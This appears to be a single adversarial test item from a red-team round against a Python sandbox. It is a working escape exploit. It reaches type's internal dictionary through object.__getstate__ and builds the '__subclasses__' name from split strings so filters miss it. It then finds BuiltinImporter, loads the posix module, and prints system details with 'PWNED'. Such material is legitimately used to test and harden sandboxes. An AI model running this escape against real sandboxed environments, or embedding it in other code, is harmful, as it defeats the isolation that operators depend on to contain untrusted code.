# adversary round 8: 021: object.__getstate__(type) returns type's real tp_dict; its '__subclasses__' descriptor called on object lists every class -> _frozen_importlib.BuiltinImporter -> load_module('posix')
ns = object.__getstate__(type)
subs = ns['__subcl' + 'asses__'](object)
bi = [c for c in subs if 'BuiltinImporter' in repr(c)][0]
posix = bi.load_module('posix')
print(len(subs), bi, posix, posix.getpid(), posix.uname())
print('PWN' + 'ED')
